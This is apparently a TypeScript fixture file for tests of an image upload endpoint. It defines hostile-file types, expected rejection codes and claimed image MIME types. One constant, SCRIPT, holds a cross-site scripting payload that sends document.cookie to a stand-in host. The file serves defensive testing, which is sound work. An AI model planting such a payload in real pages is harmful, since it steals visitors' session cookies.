/** A file that somebody might send instead of a photograph of a car, for tests. */
export type HostileFile = {
  kind: string;
  fileName: string;
  type: string;
  bytes: Buffer;
  /** What it is answered with. */
  status: 400 | 413 | 415;
};

/** Sound photographs, to be spoilt. */
export type Photos = Record<"jpeg" | "png" | "webp", Buffer>;

/** What a file may claim to be. */
export const CLAIMS = [
  ["photo.jpg", "image/jpeg"],
  ["photo.png", "image/png"],
  ["photo.webp", "image/webp"],
  ["photo.svg", "image/svg+xml"],
] as const;

export const SCRIPT = '<script>fetch("//example.com/?"+document.cookie)</script>';
